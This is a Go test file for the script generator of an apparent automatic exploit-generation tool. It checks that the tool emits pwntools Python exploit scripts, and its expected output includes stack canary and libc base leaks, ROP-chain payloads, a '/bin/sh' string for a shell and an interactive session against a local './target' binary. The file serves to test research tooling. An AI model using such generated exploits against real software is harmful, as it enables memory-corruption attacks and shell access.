package scriptgen

import (
	"bytes"
	"encoding/binary"
	"encoding/hex"
	"log"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/stretchr/testify/require"
	"gitlab.com/stephen-fox/expgen/conv"
	"gitlab.com/stephen-fox/expgen/elfkit"
	"gitlab.com/stephen-fox/expgen/iostates"
	"gitlab.com/stephen-fox/expgen/memory"
	"gitlab.com/stephen-fox/expgen/ropkit"
	"gitlab.com/stephen-fox/expgen/scripting"
)

func quietLogger() *log.Logger {
	return log.New(bytes.NewBuffer(nil), "", 0)
}

func testState(lastInput int, beforeFirstSymbolicRip int, list ...iostates.StateInfo) *iostates.State {
	return &iostates.State{
		LastInputStateInfoIdx:                       lastInput,
		LastInputStateInfoIdxBeforeFirstSymbolicRip: beforeFirstSymbolicRip,
		StateInfoList:                               list,
	}
}

func generate(t *testing.T, config Config) string {
	config.OptLogger = quietLogger()

	script := &Script{}
	err := Generate(script, config)
	if err != nil {
		t.Fatal(err)
	}

	return script.String()
}

func TestGenerate_ResidualInputStatesAreSkipped(t *testing.T) {
	elf := &elfkit.Image{
		Name:     "elf",
		Filename: "./target",
		Checksec: elfkit.Checksec{HasCanary: true},
	}

	symtab := memory.NewAddressTable()
	symtab.AddSymbolInContext("pivot_dest", 0x404840, elf.Name)

	stage1 := bytes.Repeat([]byte("A"), 60)

	script := generate(t, Config{
		Elf:                elf,
		Symtab:             symtab,
		Target:             scripting.Target{Mode: scripting.LocalMode, ExePath: "./target"},
		AuxiliaryFunctions: []string{"def f():\n    return 1"},
		State: testState(4, 2,
			iostates.InputStateInfo{Offset: 8},
			iostates.OutputStateInfo{Valid: true, BufIndex: 25, LeakType: iostates.LeakCanary},
			iostates.InputStateInfo{Offset: 16},
			iostates.InputStateInfo{Offset: 4},
			iostates.InputStateInfo{Offset: 32}),
		Chain: []ropkit.Subchain{
			{ropkit.ByteVector(stage1)},
			{ropkit.Const(0x401156)},
		},
	})

	exp := strings.Join([]string{
		"#!/usr/bin/env python3",
		"from pwn import *",
		"context.update(arch = 'amd64', os = 'linux', log_level = 'info')",
		"",
		"elf = ELF('./target', checksec=False)",
		"",
		"pivot_dest = 0x404840",
		"",
		"canary = 0",
		"elf_base = 0",
		"",
		"def f():",
		"    return 1",
		"",
		"def solve_stage1(canary, elf_base, state_info_list):",
		"    raise NotImplementedError('no stage 1 solver for: {}'.format(state_info_list))",
		"",
		"if __name__ == '__main__':",
		"    proc = process(['./target'])",
		"",
		"    # input state (offset = 8)",
		"    proc.send(" + conv.PyBytes(stage1[:8]) + ")",
		"",
		"    # output state",
		"    # leaking: canary",
		"    proc.recv(25)",
		"    canary = u64(b'\\x00' + proc.recv(7))",
		"    log.info('leaked canary: {}'.format(hex(canary)))",
		"",
		"    # input state (offset = 16), skipped",
		"",
		"    # input state (offset = 4), skipped",
		"",
		"    # input state (offset = 32)",
		"    # input state (rop chain begin)",
		"    payload  = solve_stage1(canary, elf_base, 'i8,o25,i16,i4,i32')[8:28]",
		"    proc.send(payload)",
		"    payload  = p64(0x401156)",
		"    proc.send(payload)",
		"",
		"    proc.interactive()",
		"",
	}, "\n")

	if diff := cmp.Diff(strings.Split(exp, "\n"), strings.Split(script, "\n")); diff != "" {
		t.Fatalf("script mismatch (-want +got):\n%s", diff)
	}
}

// sentBytes returns the concatenation of every payload the script
// sends, assuming that they only consist of byte literals and packed
// constants.
func sentBytes(t *testing.T, script string) []byte {
	var sent []byte

	for _, line := range strings.Split(script, "\n") {
		line = strings.TrimSpace(line)

		var fragment string
		switch {
		case strings.HasPrefix(line, "proc.send(b"):
			fragment = strings.TrimSuffix(strings.TrimPrefix(line, "proc.send("), ")")
		case strings.HasPrefix(line, "payload  = "):
			fragment = strings.TrimPrefix(line, "payload  = ")
		case strings.HasPrefix(line, "payload += "):
			fragment = strings.TrimPrefix(line, "payload += ")
		default:
			continue
		}

		if strings.HasPrefix(fragment, "p64(") {
			value, err := strconv.ParseUint(strings.TrimSuffix(strings.TrimPrefix(fragment, "p64("), ")"), 0, 64)
			if err != nil {
				t.Fatalf("failed to parse %q - %s", fragment, err)
			}

			sent = binary.LittleEndian.AppendUint64(sent, value)
			continue
		}

		b, err := hex.DecodeString(strings.ReplaceAll(strings.TrimSuffix(strings.TrimPrefix(fragment, "b'"), "'"), `\x`, ""))
		if err != nil {
			t.Fatalf("failed to parse %q - %s", fragment, err)
		}

		sent = append(sent, b...)
	}

	return sent
}

func TestGenerate_NoCanaryNoPIERoundTrip(t *testing.T) {
	elf := &elfkit.Image{Name: "elf", Filename: "./target"}

	stage1 := make([]byte, 32)
	for i := range stage1 {
		stage1[i] = byte(i)
	}

	chain := []ropkit.Subchain{
		{ropkit.ByteVector(stage1)},
		{ropkit.Const(0x401156), ropkit.ByteVector("/bin/sh\x00")},
		{ropkit.Snippet{Lines: []string{"x = 1"}}},
		{ropkit.Const(0xdeadbeef)},
	}

	script := generate(t, Config{
		Elf: elf,
		State: testState(3, 3,
			iostates.InputStateInfo{Offset: 8},
			iostates.OutputStateInfo{},
			iostates.SleepStateInfo{Sec: 1},
			iostates.InputStateInfo{Offset: 24}),
		Chain: chain,
	})

	require.NotContains(t, script, "solve_stage1")
	require.Contains(t, script, "    proc.recvrepeat(0.1)\n")
	require.Contains(t, script, "    # sleep state\n    sleep(1)\n")
	require.Contains(t, script, "proc.send(payload)\n    x = 1\n    payload  = p64(0xdeadbeef)\n")

	exp, err := ropkit.Bytes(chain...)
	require.NoError(t, err)

	if !bytes.Equal(exp, sentBytes(t, script)) {
		t.Fatalf("expected sent bytes to be\n%x\n- got\n%x", exp, sentBytes(t, script))
	}
}

func TestGenerate_LeakedBasesAreNamedAfterImages(t *testing.T) {
	elf := &elfkit.Image{
		Name:     "elf",
		Filename: "./target",
		Checksec: elfkit.Checksec{HasPIE: true},
	}

	libc := &elfkit.Image{Name: "libc", Filename: "/lib/x86_64-linux-gnu/libc.so.6"}

	script := generate(t, Config{
		Elf:             elf,
		OptLibc:         libc,
		OptStage1Solver: "./solve",
		State: testState(4, 4,
			iostates.OutputStateInfo{Valid: true, BufIndex: 8, BaseOffset: 0x1234, LeakType: iostates.LeakCode},
			iostates.OutputStateInfo{Valid: true, BaseOffset: 0x29d90, LeakType: iostates.LeakLibc},
			iostates.OutputStateInfo{Valid: true, BufIndex: 16, BaseOffset: 0x10, LeakType: iostates.LeakHeap},
			iostates.InputStateInfo{Offset: 8},
			iostates.InputStateInfo{Offset: 64}),
		Chain: []ropkit.Subchain{{ropkit.ByteVector(make([]byte, 72))}},
	})

	for _, line := range []string{
		"libc = ELF('/lib/x86_64-linux-gnu/libc.so.6', checksec=False)",
		"libc_base = 0",
		"    out = subprocess.check_output(['./solve', hex(canary), hex(elf_base), state_info_list])",
		"    # leaking: code",
		"    proc.recv(8)",
		"    elf_base = elf_leak - 0x1234",
		"    # leaking: libc",
		"    proc.recv(0)",
		"    libc_leak = u64(proc.recv(6).ljust(8, b'\\x00'))",
		"    libc_base = libc_leak - 0x29d90",
		"    log.info('leaked libc_base: {}'.format(hex(libc_base)))",
		"    heap_base = heap_leak - 0x10",
		"    payload  = solve_stage1(canary, elf_base, 'o8,o0,o16,i8,i64')[8:]",
	} {
		require.Contains(t, strings.Split(script, "\n"), line)
	}
}

func TestGenerate_InvalidConfig(t *testing.T) {
	elf := &elfkit.Image{Name: "elf"}
	stage1 := ropkit.Subchain{ropkit.ByteVector("A")}
	input := iostates.InputStateInfo{Offset: 1}

	tests := []Config{
		{State: testState(0, 0, input), Chain: []ropkit.Subchain{stage1}},
		{Elf: elf, Chain: []ropkit.Subchain{stage1}},
		{Elf: elf, State: testState(0, 0, input)},
		{Elf: elf, State: testState(0, 0, input), Chain: []ropkit.Subchain{{ropkit.Const(1)}}},
		{Elf: elf, State: testState(1, 0, input), Chain: []ropkit.Subchain{stage1}},
		{Elf: elf, State: testState(0, 0, iostates.SleepStateInfo{}), Chain: []ropkit.Subchain{stage1}},
		{Elf: elf, State: testState(0, -1, input), Chain: []ropkit.Subchain{stage1}},
	}

	for i, config := range tests {
		err := Generate(&Script{}, config)
		if err == nil {
			t.Fatalf("expected config %d to fail", i)
		}
	}
}
